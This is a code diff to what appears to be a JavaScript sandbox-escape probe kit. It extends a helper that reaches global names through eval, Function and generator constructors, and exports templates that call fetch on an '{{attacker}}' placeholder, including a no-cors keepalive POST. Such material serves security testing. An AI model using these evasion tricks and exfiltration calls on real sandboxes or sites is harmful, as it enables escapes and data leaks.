@@ -9,7 +9,7 @@ const find = (name) => {
     () => self[name],
     () => Function('return ' + name)(),
     () => (0, eval)(name),
-    () => Object.getPrototypeOf(async () => {}).constructor('return ' + name),
+    () => Object.getPrototypeOf(function* () {}).constructor('yield ' + name)().next().value,
     () => Reflect.get(Object.getPrototypeOf(globalThis), name, globalThis),
     () => Reflect.get(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)), name, globalThis),
     () => globalThis.constructor.prototype[name],
@@ -27,7 +27,8 @@ const find = (name) => {
   throw new ReferenceError(name)
 }`
 
-const uses: Record<string, string> = {
+/** What is done with each name; `find` gives its value. */
+export const uses: Record<string, string> = {
   fetch: `await find('fetch').call(globalThis, '{{attacker}}', { mode: 'no-cors' })`,
   'fetch-site': `return (await find('fetch').call(globalThis, '{{site}}/?{{id}}')).text()`,
   'fetch-keepalive': `await find('fetch').call(globalThis, '{{attacker}}', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
